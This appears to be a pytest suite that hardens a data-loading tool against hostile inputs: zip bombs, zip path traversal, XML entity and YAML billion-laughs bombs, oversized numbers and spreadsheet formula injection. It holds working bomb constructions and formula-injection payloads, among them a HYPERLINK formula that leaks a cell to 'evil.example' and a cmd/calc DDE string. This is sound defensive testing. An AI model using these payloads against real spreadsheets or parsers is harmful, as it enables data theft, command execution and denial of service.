"""Hostile files (issue 12, items 6-10): every bound of nestmap/loaders/limits.py driven through
the real command line, with the graph loaded before unchanged, and user text kept out of
spreadsheet formulas in every XLSX writer and dashboard CSV download.

Resource bounds (the zip bomb, billion laughs) are measured in a child process by
``resource.getrusage``: its peak memory and its CPU seconds, with generous margins."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from conftest import HAND, load_into
from hypothesis import given
from hypothesis import strategies as st

from nestmap import analysis
from nestmap.cli import app
from nestmap.errors import InputError
from nestmap.loaders import limits, read_dataset, read_dataset_bytes
from nestmap.loaders.validate import SERVICES, WORKFORCE, Invalid
from nestmap.scenarios import parse_document

ANALYSES = ("gaps", "misdirected", "boundaries", "pathways", "concentration", "need")


def _zip(folder: Path, replace: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for file in sorted(folder.glob("*.csv")):
            archive.writestr(file.name, (replace or {}).get(file.name, file.read_bytes()))
    return buffer.getvalue()


def _set_cell(folder: Path, file: str, row: int, column: str, value: str) -> None:
    path = folder / file
    rows = list(csv.reader(path.open(newline="", encoding="utf-8")))
    rows[row - 1][rows[0].index(column)] = value
    with path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)


def _measured(args: list[str], cwd: Path) -> dict:
    """Run ``nestmap ARGS`` in a fresh interpreter; its exit code, stderr, peak RSS (MB) and
    CPU seconds, measured by the child itself."""
    # Peak memory from /proc (VmHWM): ru_maxrss would carry over the forking parent's peak.
    script = (
        "import resource, sys, json\n"
        "from nestmap.cli import app\n"
        "code = 0\n"
        "try:\n"
        f"    app({args!r}, standalone_mode=False)\n"
        "except SystemExit as exc:\n"
        "    code = exc.code\n"
        "use = resource.getrusage(resource.RUSAGE_SELF)\n"
        "status = open('/proc/self/status').read().split('VmHWM:')[1].split()[0]\n"
        "print(json.dumps({'code': code, 'rss_mb': int(status) / 1024,"
        " 'cpu_s': use.ru_utime + use.ru_stime}))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], cwd=cwd, capture_output=True, text=True, timeout=300
    )
    figures = json.loads(done.stdout.strip().splitlines()[-1])
    return {**figures, "stderr": done.stderr}


@pytest.fixture
def hand_db(tmp_path: Path):
    store = load_into(tmp_path / "graph.lbug", HAND)
    before = analysis.gaps(store)
    store.close()
    return tmp_path / "graph.lbug", before


def _unchanged(db: Path, before: list) -> None:
    from nestmap.graph import open_store

    store = open_store(db)
    assert analysis.gaps(store) == before
    store.close()


# ---- item 6: sizes ------------------------------------------------------------------------------


@pytest.mark.slow
def test_the_zip_bomb_is_refused_within_its_bounds(tmp_path, hand_db):
    """14 KB inflating to 10 MB of junk lines: on main, 41.9 million problems and 10+ GB."""
    header = (HAND / "services.csv").read_text(encoding="utf-8").splitlines()[0]
    bomb = tmp_path / "bomb.zip"
    bomb.write_bytes(_zip(HAND, {"services.csv": (header + "\n" + "x\n" * (5 << 20)).encode()}))
    assert bomb.stat().st_size < 20_000
    db, before = hand_db
    run = _measured(["load", str(bomb), "--db", str(db)], tmp_path)
    print("zip bomb:", {k: v for k, v in run.items() if k != "stderr"})
    assert run["code"] == 2
    assert run["rss_mb"] < 500 and run["cpu_s"] < 10
    lines = run["stderr"].splitlines()
    assert lines[0].startswith("error: at least 100,000 problems")
    assert "services.csv, row 2, column name: a value is required" in run["stderr"]
    assert len(lines) == 1 + 1_000 + 1  # the message, the first 1,000, the count of the rest
    assert "further problems, not listed" in lines[-1]
    _unchanged(db, before)


def test_a_member_past_the_size_bound_stops_inflating(monkeypatch):
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 300)
    with pytest.raises(InputError) as caught:
        read_dataset_bytes("big.zip", _zip(HAND))
    reasons = {(p.file, p.reason) for p in caught.value.problems}
    assert ("services.csv", "inflates to more than 300 bytes") in reasons


def test_the_whole_archive_has_an_inflated_budget(monkeypatch):
    monkeypatch.setattr(limits, "MAX_INFLATED_BYTES", 2_000)  # the five files: 3,335 bytes
    with pytest.raises(InputError) as caught:
        read_dataset_bytes("big.zip", _zip(HAND))
    assert any("the archive inflates to more than" in p.reason for p in caught.value.problems)


def test_too_many_zip_members_are_refused_before_reading(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for index in range(limits.MAX_ZIP_MEMBERS + 1):
            archive.writestr(f"x{index}.txt", b"")
    with pytest.raises(InputError) as caught:
        read_dataset_bytes("many.zip", buffer.getvalue())
    assert caught.value.problems[0].reason == "has 1,001 entries; at most 1,000"


@pytest.mark.parametrize(
    "edit, expected",
    [
        (lambda text: text + "x" * (1 << 20) + "y" * 100, "a line longer than 1 MiB"),
        (
            lambda text: text.replace("General practice", "n" * 40_000),
            "a cell of 40,000 characters; at most 32,767",
        ),
        (lambda text: text + ",".join("x" * 200) + "\n", "a row of 200 cells; at most 100"),
    ],
    ids=["line", "cell", "cells per row"],
)
def test_lines_cells_and_rows_are_bounded(tmp_path, hand_db, edit, expected):
    folder = tmp_path / "data"
    shutil.copytree(HAND, folder)
    path = folder / "services.csv"
    path.write_text(edit(path.read_text(encoding="utf-8")), encoding="utf-8")
    db, before = hand_db
    result = CliRunner().invoke(app, ["load", str(folder), "--db", str(db)])
    assert result.exit_code == 2
    assert f"services.csv, row 2, column name: {expected}" in result.output or (
        "services.csv, row" in result.output and expected in result.output
    )
    assert "Traceback" not in result.output
    _unchanged(db, before)


def test_rows_past_the_bound_stop_reading(monkeypatch):
    monkeypatch.setattr(limits, "MAX_ROWS", 3)
    with pytest.raises(InputError) as caught:
        read_dataset(HAND)
    assert any(
        p.file == "services.csv" and p.row == 5 and p.reason.startswith("more than 3 rows")
        for p in caught.value.problems
    )


def test_extract_zip_is_bounded_and_leaves_nothing_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(limits, "MAX_INFLATED_BYTES", 1_500)
    target = tmp_path / "out"
    with pytest.raises(InputError):
        limits.extract_zip(_zip(HAND), target, "upload.zip")
    assert not [path for path in target.rglob("*") if path.is_file()]


def test_extract_zip_skips_paths_that_leave_the_folder(tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("../evil.csv", b"x")
        archive.writestr("/abs.csv", b"x")
        archive.writestr("ok/services.csv", b"id\n")
    written = limits.extract_zip(buffer.getvalue(), tmp_path / "out", "upload.zip")
    assert written == [tmp_path / "out" / "ok" / "services.csv"]
    assert not (tmp_path / "evil.csv").exists()


def _workbook_with(tmp_path: Path, member: str, edit) -> Path:
    """The hand dataset as an .xlsx whose ``member`` went through ``edit``."""
    from nestmap.interop import export_dataset

    store = load_into(tmp_path / "wb.lbug", HAND)
    data = export_dataset(store, "xlsx")
    store.close()
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            content = source.read(info)
            out.writestr(info.filename, edit(content) if info.filename == member else content)
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(buffer.getvalue())
    return path


def test_an_xlsx_with_a_dtd_entity_is_refused(tmp_path, hand_db):
    """On main: ``unexpected failure: ValueError``, exit 1."""
    doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>'
    path = _workbook_with(
        tmp_path,
        "xl/worksheets/sheet2.xml",
        lambda xml: doctype + xml.replace(b"<t>", b"<t>&a;", 1),
    )
    db, before = hand_db
    result = CliRunner().invoke(app, ["load", str(path), "--db", str(db)])
    assert result.exit_code == 2, result.output
    assert (
        "hostile.xlsx:xl/worksheets/sheet2.xml: XML with a document type declaration"
        in result.output
    )
    _unchanged(db, before)


def _without_declaration(xml: bytes) -> str:
    text = xml.decode("utf-8")
    return text.split("?>", 1)[1] if text.startswith("<?xml") else text


def _entity_bomb(xml: bytes, encoding: str, padding: int = 0, references: int = 1) -> bytes:
    """A sheet part re-encoded in ``encoding`` with a DTD whose nested entities expand to 10
    million characters per reference, and ``padding`` characters of comment (the parser's
    amplification guard allows 100 times the document's own size: padding buys expansion)."""
    body = _without_declaration(xml)
    entities = ['<!ENTITY e0 "' + "a" * 1000 + '">'] + [
        f'<!ENTITY e{level} "' + f"&e{level - 1};" * 10 + '">' for level in range(1, 5)
    ]
    body = body.replace("<t>", "<t>" + "&e4;" * references, 1)
    body = body.replace("<sheetData>", "<!--" + "p" * padding + "--><sheetData>", 1)
    declared = encoding.upper().replace("-SIG", "").replace("-LE", "").replace("-BE", "")
    text = f'<?xml version="1.0" encoding="{declared}"?>'
    return (text + "<!DOCTYPE worksheet [" + "".join(entities) + "]>" + body).encode(encoding)


@pytest.mark.slow
def test_a_utf16_entity_bomb_in_a_workbook_is_refused(tmp_path, hand_db):
    """The sheet part in UTF-16 with ``<!DOCTYPE … <!ENTITY …>``: on main the byte check for
    ASCII ``<!DOCTYPE`` missed it and the entities expanded (a 37 KB file, a cell of 744 million
    characters, 1.6 GB). Now the part is decoded before it is checked."""
    path = _workbook_with(
        tmp_path,
        "xl/worksheets/sheet2.xml",
        lambda xml: _entity_bomb(xml, "utf-16", padding=7_440_000, references=74),
    )
    assert path.stat().st_size < 60_000
    db, before = hand_db
    run = _measured(["load", str(path), "--db", str(db)], tmp_path)
    print("UTF-16 entity bomb:", {k: v for k, v in run.items() if k != "stderr"})
    assert run["code"] == 2, run["stderr"]
    assert (
        "hostile.xlsx:xl/worksheets/sheet2.xml: XML with a document type declaration"
        in run["stderr"]
    )
    assert run["rss_mb"] < 400
    _unchanged(db, before)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig", "utf-8"])
def test_a_dtd_is_refused_in_every_encoding_the_parser_reads(tmp_path, encoding):
    path = _workbook_with(
        tmp_path, "xl/worksheets/sheet2.xml", lambda xml: _entity_bomb(xml, encoding)
    )
    with pytest.raises(InputError) as caught:
        read_dataset(path)
    (problem,) = caught.value.problems
    assert problem.file == "hostile.xlsx:xl/worksheets/sheet2.xml"
    assert "document type declaration" in problem.reason


def _reencoded(declared: str, encoding: str):
    def edit(xml: bytes) -> bytes:
        body = _without_declaration(xml)
        return (f'<?xml version="1.0" encoding="{declared}"?>' + body).encode(encoding)

    return edit


@pytest.mark.parametrize(
    ("declared", "encoding", "reason"),
    [
        ("UTF-32", "utf-32", "XML in UTF-32; a workbook's XML must be UTF-8 or UTF-16"),
        ("UTF-32BE", "utf-32-be", "XML in UTF-32"),
        ("cp500", "utf-8", "XML declared as 'cp500'; a workbook's XML must be UTF-8 or UTF-16"),
        ("windows-1252", "utf-8", "XML declared as 'windows-1252'"),
        ("UTF-16", "utf-8", "XML declared as 'UTF-16' but written as UTF-8"),
        ("UTF-8", "utf-16", "XML declared as 'UTF-8' but written as UTF-16"),
    ],
)
def test_xml_in_other_encodings_is_refused(tmp_path, declared, encoding, reason):
    path = _workbook_with(tmp_path, "xl/worksheets/sheet2.xml", _reencoded(declared, encoding))
    with pytest.raises(InputError) as caught:
        read_dataset(path)
    assert caught.value.problems[0].reason.startswith(reason), caught.value.problems


@pytest.mark.parametrize(("declared", "encoding"), [("UTF-16", "utf-16"), ("UTF-8", "utf-8-sig")])
def test_a_workbook_in_utf16_or_with_a_bom_still_loads(tmp_path, declared, encoding):
    """The same sheet, decoded the same: the check refuses hostile parts, not encodings."""
    path = _workbook_with(tmp_path, "xl/worksheets/sheet2.xml", _reencoded(declared, encoding))
    services = read_dataset(path).services
    plain = _workbook_with(tmp_path, "xl/worksheets/sheet2.xml", lambda xml: xml)
    assert services == read_dataset(plain).services


def test_a_cell_longer_than_any_cell_is_refused_before_parsing(tmp_path):
    """No entities, just one text of 400,000 characters: refused before the XML parser builds
    it (a cell holds at most 32,767 characters, written in at most 10 each)."""

    def longer(extra: bytes):
        def edit(xml: bytes) -> bytes:
            at = xml.index(b"<t>", xml.index(b'<row r="2"')) + 3  # a data cell of row 2
            return xml[:at] + extra + xml[at:]

        return edit

    path = _workbook_with(tmp_path, "xl/worksheets/sheet2.xml", longer(b"x" * 400_000))
    with pytest.raises(InputError) as caught:
        read_dataset(path)
    (problem,) = caught.value.problems
    assert problem.reason.startswith("XML text of more than 327,670 characters without markup")
    # Within the run bound, the cell is reported by the cell bound, as before.
    path = _workbook_with(tmp_path, "xl/worksheets/sheet2.xml", longer(b"y" * 40_000))
    with pytest.raises(InputError) as caught:
        read_dataset(path)
    reasons = [p.reason for p in caught.value.problems]
    assert any(reason.startswith("a cell of 40,0") for reason in reasons), reasons[:3]


def test_binary_parts_are_not_read_as_xml():
    """An image whose bytes happen to look like UTF-16 or UTF-32 (an EMF starts 01 00 00 00)
    is not XML to the parser, and not refused."""
    for data in (b"\x01\x00\x00\x00" + b"\x00" * 500, b"\x89PNG\r\n" + bytes(range(256)) * 4):
        limits.check_xml(iter([data]), "x.xlsx:xl/media/image1.emf")


def test_a_workbook_part_past_the_size_bound_is_refused(tmp_path, monkeypatch):
    path = _workbook_with(tmp_path, "xl/styles.xml", lambda xml: xml + b" " * 200_000)
    assert path.stat().st_size < 50_000
    monkeypatch.setattr(limits, "MAX_FILE_BYTES", 100_000)
    with pytest.raises(InputError) as caught:
        read_dataset(path)
    assert caught.value.problems[0].file == "hostile.xlsx:xl/styles.xml"
    assert caught.value.problems[0].reason == "inflates to more than 100,000 bytes"


# ---- item 8: numbers ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "file, row, column, value, reason",
    [
        ("services.csv", 2, "capacity_per_year", "1" * 30, "must be at most 1,000,000,000,000"),
        ("areas.csv", 3, "under2_population", "9" * 19, "must be at most 1,000,000,000,000"),
        ("referrals.csv", 2, "count", "1" * 400, "must be at most 1,000,000,000,000"),
        ("services.csv", 2, "max_age_months", "1e400", "must be a whole number"),
        ("services.csv", 2, "min_age_months", "1_0", "must be a whole number"),
        ("workforce.csv", 2, "fte", "1e308", "must be a number greater than 0 and at most 1,000"),
        ("workforce.csv", 2, "fte", "nan", "must be a number greater than 0 and at most 1,000"),
    ],
)
def test_numbers_are_range_checked_with_their_place(
    tmp_path, hand_db, file, row, column, value, reason
):
    """On main a 30-digit capacity failed in the engine: ``unexpected failure: RuntimeError``."""
    folder = tmp_path / "data"
    shutil.copytree(HAND, folder)
    _set_cell(folder, file, row, column, value)
    db, before = hand_db
    result = CliRunner().invoke(app, ["load", str(folder), "--db", str(db)])
    assert result.exit_code == 2, result.output
    assert f"{file}, row {row}, column {column}: {reason}" in result.output
    # The broken service's id is still known: no knock-on "no service has this id".
    assert "no service has this id" not in result.output
    _unchanged(db, before)


# ---- item 7 and 9: scenario files ---------------------------------------------------------------

LAUGHS = """name: laughs
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""


def test_billion_laughs_is_refused_within_its_bounds(tmp_path, hand_db):
    """On main: 4 GB on the command line, 5 GB in the dashboard's paste box."""
    file = tmp_path / "laughs.yaml"
    file.write_text(LAUGHS)
    db, _ = hand_db
    run = _measured(["scenario", "validate", str(file), "--db", str(db)], tmp_path)
    print("billion laughs:", {k: v for k, v in run.items() if k != "stderr"})
    assert run["code"] == 2
    assert run["rss_mb"] < 500 and run["cpu_s"] < 2
    assert "laughs.yaml: line 2: YAML anchors and aliases" in run["stderr"]


@pytest.mark.parametrize(
    "name, text, reason",
    [
        ("deep.yaml", "name: deep\nx: " + "[" * 100_000 + "]" * 100_000, "nested more than 50"),
        ("deep.json", '{"name": "d", "x": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested more"),
        ("deep2.json", '{"name": "d", "x": ' + "[" * 60 + "]" * 60 + "}", "nested more than 50"),
        ("big.yaml", "name: big\n" + "#" * (1 << 20), "larger than 1 MiB"),
        ("anchor.yaml", "name: &n x\n", "YAML anchors and aliases"),
    ],
)
def test_scenario_files_are_bounded(tmp_path, hand_db, name, text, reason):
    file = tmp_path / name
    file.write_text(text)
    db, _ = hand_db
    result = CliRunner().invoke(app, ["scenario", "validate", str(file), "--db", str(db)])
    assert result.exit_code == 2, result.output
    assert f"{name}: " in result.output and reason in result.output
    assert "Traceback" not in result.output and "unexpected" not in result.output


@pytest.mark.parametrize(
    "costs, shown",
    [
        ("[{item: x, amount: " + "9" * 400 + "}]", "9" * 100),
        ("[{item: x, amount: 1.0e+308}, {item: y, amount: 1.0e+308}]", "1000000"),
    ],
    ids=["400 digits", "two 1e308"],
)
def test_scenario_amounts_are_range_checked(tmp_path, hand_db, costs, shown):
    """On main: 400 digits crashed float() (exit 1); two 1e308 costs printed ``Infinity``."""
    file = tmp_path / "money.yaml"
    file.write_text(f"name: money\ncosts: {costs}\n")
    db, _ = hand_db
    result = CliRunner().invoke(
        app, ["scenario", "compare", str(file), "--db", str(db), "--format", "json"]
    )
    assert result.exit_code == 2, result.output
    assert "money.yaml, column costs[0].amount: must be a number of pounds, 0 to" in result.output
    assert shown in result.output
    assert "Infinity" not in result.output


@pytest.mark.parametrize(
    "name, text",
    [
        ("inf.yaml", "name: money\ncosts: [{item: x, amount: .inf}]\n"),
        ("nan.yaml", "name: young\nadd_services: [{min_age_months: .NaN}]\n"),
        ("nan.json", '{"name": "young", "add_services": [{"min_age_months": NaN}]}'),
        ("inf.json", '{"name": "money", "costs": [{"item": "x", "amount": -Infinity}]}'),
        ("big.json", '{"name": "money", "costs": [{"item": "x", "amount": 1e400}]}'),
    ],
)
def test_nan_and_infinity_are_refused_at_parse(tmp_path, hand_db, name, text):
    file = tmp_path / name
    file.write_text(text)
    db, _ = hand_db
    result = CliRunner().invoke(app, ["scenario", "validate", str(file), "--db", str(db)])
    assert result.exit_code == 2, result.output
    assert "NaN and infinite numbers are not allowed in a scenario" in result.output


def test_json_output_is_always_json(tmp_path, hand_db):
    file = tmp_path / "ok.yaml"
    file.write_text("name: ok\ncosts: [{item: x, amount: 1000000000000}]\n")
    db, _ = hand_db
    result = CliRunner().invoke(
        app, ["scenario", "compare", str(file), "--db", str(db), "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    json.loads(result.output, parse_constant=lambda name: pytest.fail(f"{name} in JSON"))


def test_parse_document_caps_problem_values():
    with pytest.raises(InputError) as caught:
        parse_document("x.yaml", b"name: [")
    assert caught.value.problems[0].reason.startswith("not valid YAML")


# ---- item 10: spreadsheets ----------------------------------------------------------------------

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "=1+1",
)


@pytest.fixture
def formula_dataset(tmp_path: Path) -> Path:
    """The hand dataset with formula-like names, providers, sources and interventions."""
    folder = tmp_path / "formulas"
    shutil.copytree(HAND, folder)
    for row, payload in enumerate(PAYLOADS, start=2):
        _set_cell(folder, "services.csv", row, "name", payload)
        _set_cell(folder, "services.csv", row, "provider", payload)
        _set_cell(folder, "services.csv", row, "source", payload)
    _set_cell(folder, "areas.csv", 3, "name", PAYLOADS[0])
    _set_cell(folder, "referrals.csv", 2, "source", PAYLOADS[2])
    return folder


def _formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _texts(data: bytes) -> set[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }


def test_xlsx_export_keeps_formula_names_as_text_and_loads_back(tmp_path, formula_dataset):
    """On main: live formulas in the export, and the export no longer loaded (87 problems)."""
    store = load_into(tmp_path / "a.lbug", formula_dataset)
    out = tmp_path / "export.xlsx"
    result = CliRunner().invoke(app, ["export", str(out), "--db", store.location])
    assert result.exit_code == 0, result.output
    assert _formula_cells(out.read_bytes()) == []
    assert set(PAYLOADS) <= _texts(out.read_bytes())
    again = load_into(tmp_path / "b.lbug", out)
    for name in ANALYSES:
        assert getattr(analysis, name)(again) == getattr(analysis, name)(store), name
    assert {row["name"] for row in analysis.services(again)} >= set(PAYLOADS)
    store.close()
    again.close()


def test_every_xlsx_writer_writes_text_not_formulas(tmp_path, formula_dataset):
    from nestmap.dashboard import tables
    from nestmap.interop import template_workbook, to_kumu
    from nestmap.scenarios import evaluate, report_xlsx

    store = load_into(tmp_path / "a.lbug", formula_dataset)
    kumu = to_kumu(store)
    assert _formula_cells(kumu) == [] and PAYLOADS[0] in _texts(kumu)
    assert _formula_cells(template_workbook()) == []
    scenario = {
        "name": PAYLOADS[0],
        "description": PAYLOADS[1],
        "source": PAYLOADS[2],
        "costs": [{"item": PAYLOADS[3], "amount": 5}],
        "__file__": "s.yaml",
    }
    result = evaluate(store, scenario)
    report = report_xlsx(
        result["summary"], result["comparison"], result["need_before"], result["need_after"]
    )
    assert _formula_cells(report) == [] and PAYLOADS[0] in _texts(report)
    table = tables.frame(analysis.services(store))
    download = tables.xlsx_bytes(table, "services")
    assert _formula_cells(download) == [] and set(PAYLOADS) <= _texts(download)
    store.close()


def test_dashboard_csv_downloads_neutralise_formulas_and_cli_csv_stays_exact(
    tmp_path, formula_dataset
):
    from nestmap.dashboard import tables

    store = load_into(tmp_path / "a.lbug", formula_dataset)
    rows = [{"name": payload, "count": -1} for payload in PAYLOADS]
    rows += [{"name": "\tTab", "count": 1}, {"name": "\rCR", "count": 2}, {"name": "x", "count": 3}]
    text = tables.csv_bytes(tables.frame(rows)).decode("utf-8")
    cells = list(csv.reader(io.StringIO(text, newline="")))
    assert cells[0] == ["name", "count"]
    assert [cell[0] for cell in cells[1:]] == ["'" + p for p in PAYLOADS] + ["'\tTab", "'\rCR", "x"]
    assert [cell[1] for cell in cells[1:]] == ["-1"] * 5 + ["1", "2", "3"]  # numbers stay numbers
    # For machines, byte-exact: the CLI export and `--format csv` keep the text as it was.
    out = tmp_path / "csv"
    CliRunner().invoke(app, ["export", str(out), "--format", "csv", "--db", store.location])
    assert (out / "services.csv").read_text(encoding="utf-8").count(PAYLOADS[1]) == 3
    listed = CliRunner().invoke(app, ["thrive", "--format", "csv", "--db", store.location])
    assert "@SUM(1+1)" in listed.output and "'@SUM" not in listed.output
    store.close()


# ---- smaller: a full disk during a load ---------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path: Path):
    """A 1.5 MB tmpfs: room for the hand dataset's graph, not for the seed region beside it.
    Needs the right to mount (root in a container); skipped elsewhere."""
    mount = tmp_path / "disk"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1500k", "tmpfs", str(mount)],
        capture_output=True,
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a small file system here")
    try:
        yield mount
    finally:
        subprocess.run(["umount", str(mount)], check=False)


def test_a_full_disk_during_a_load_is_a_plain_failure_and_leaves_nothing(small_disk):
    """On main: "Transaction committed successfully … durable" and 0-byte .lock files left."""
    from nestmap.cli import seed_path

    db = small_disk / "graph.lbug"
    first = subprocess.run(
        [sys.executable, "-m", "nestmap.cli", "load", str(HAND), "--db", str(db)],
        capture_output=True,
        text=True,
    )
    assert first.returncode == 0, first.stderr
    before = sorted(path.name for path in small_disk.iterdir())
    done = subprocess.run(
        [sys.executable, "-m", "nestmap.cli", "load", str(seed_path()), "--db", str(db)],
        capture_output=True,
        text=True,
    )
    assert done.returncode == 1, done.stderr
    assert "the new graph could not be written" in done.stderr
    assert "nothing was changed" in done.stderr
    assert "committed" not in done.stderr and "durable" not in done.stderr
    assert "Traceback" not in done.stderr
    assert sorted(path.name for path in small_disk.iterdir()) == before  # no .lock files
    from nestmap.graph import open_store

    store = open_store(db)
    assert analysis.info(store)["dataset"] == "hand"
    store.close()


@pytest.mark.parametrize(
    "data, reason",
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested more than 50 levels deep"),
        (b"[1, 2", "not valid JSON"),
        (b"\xff\xfe", "not UTF-8 text"),
        (b"1" * 5000, "not valid JSON"),
    ],
)
def test_read_json_is_bounded(data, reason):
    with pytest.raises(InputError) as caught:
        limits.read_json(data, "x.json")
    assert caught.value.problems[0].file == "x.json"
    assert caught.value.problems[0].reason.startswith(reason)
    assert limits.read_json(b'{"a": [1, {"b": 2}]}', "ok.json") == {"a": [1, {"b": 2}]}


# ---- property: a number cell either parses within the engine's range or is a problem ------------

NUMBER_TEXT = st.one_of(
    st.text(alphabet="0123456789+-_.eE ", max_size=60),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.text(max_size=20),
)


@given(NUMBER_TEXT)
def test_whole_number_cells_parse_in_range_or_are_problems(text):
    for column in ("capacity_per_year", "min_age_months"):
        try:
            value = SERVICES[column].parse(text.strip())
        except Invalid:
            continue
        assert isinstance(value, int) and 0 <= value <= limits.MAX_COUNT
        assert -(2**63) <= value < 2**63


@given(NUMBER_TEXT)
def test_fte_cells_parse_finite_or_are_problems(text):
    import math

    try:
        value = WORKFORCE["fte"].parse(text.strip())
    except Invalid:
        return
    assert math.isfinite(value) and 0 < value <= 1_000
